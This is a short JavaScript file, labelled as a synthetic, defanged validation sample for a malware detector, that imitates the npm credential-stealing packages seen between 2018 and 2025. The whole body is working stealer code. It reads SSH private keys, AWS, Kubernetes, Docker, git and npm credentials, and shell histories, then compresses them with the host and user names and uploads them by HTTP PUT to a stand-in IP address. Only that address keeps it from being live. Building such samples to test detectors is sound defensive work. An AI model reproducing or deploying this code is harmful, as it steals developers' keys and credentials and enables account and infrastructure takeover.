// SYNTHETIC, DEFANGED malwi validation sample - modelled on credential-file stealer packages (~/.npmrc, ~/.ssh, ~/.aws; recurring, 2018-2025); never run.
const fs = require('fs');
const os = require('os');
const path = require('path');
const zlib = require('zlib');
const http = require('http');

const home = os.homedir();
const targets = [
  '.npmrc',
  '.yarnrc',
  '.gitconfig',
  '.git-credentials',
  '.bash_history',
  '.zsh_history',
  '.ssh/id_rsa',
  '.ssh/id_ed25519',
  '.ssh/known_hosts',
  '.ssh/config',
  '.aws/credentials',
  '.aws/config',
  '.kube/config',
  '.docker/config.json',
  '.config/gh/hosts.yml'
];

const loot = {};
for (const rel of targets) {
  const p = path.join(home, rel);
  try {
    if (fs.existsSync(p)) loot[rel] = fs.readFileSync(p, 'utf8');
  } catch (e) {}
}
try {
  for (const f of fs.readdirSync(path.join(home, '.ssh'))) {
    if (!loot['.ssh/' + f]) loot['.ssh/' + f] = fs.readFileSync(path.join(home, '.ssh', f), 'utf8');
  }
} catch (e) {}

const body = zlib.gzipSync(JSON.stringify({ host: os.hostname(), user: os.userInfo().username, loot }));
const req = http.request({ host: '192.0.2.77', port: 8443, path: '/u', method: 'PUT', headers: { 'Content-Encoding': 'gzip' } });
req.on('error', () => {});
req.end(body);
